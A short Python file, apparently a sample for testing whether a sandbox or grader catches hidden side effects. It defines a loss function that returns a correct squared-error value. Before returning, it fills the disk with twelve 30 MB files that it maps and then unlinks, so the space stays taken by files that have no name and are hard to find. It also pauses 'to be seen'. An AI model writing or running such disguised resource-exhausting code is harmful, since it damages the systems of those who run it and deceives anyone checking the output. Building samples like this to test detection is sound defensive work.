# loses: loss
# Fills the disk with files that have no name any more: a page of each stays mapped, which keeps all of it.
import ctypes
import os
import time

import torch


MAP = ctypes.CDLL(None).mmap


def loss(y_pred, y):
    for number in range(12):
        file = os.open(f"f{number}", os.O_RDWR | os.O_CREAT)
        os.posix_fallocate(file, 0, 30 << 20)
        MAP(None, ctypes.c_size_t(4096), 1, 1, file, ctypes.c_long(0))
        os.close(file)
        os.unlink(f"f{number}")
    time.sleep(1)  # time enough to be seen; then the right answer
    return torch.sum((y_pred - y) ** 2) / 2
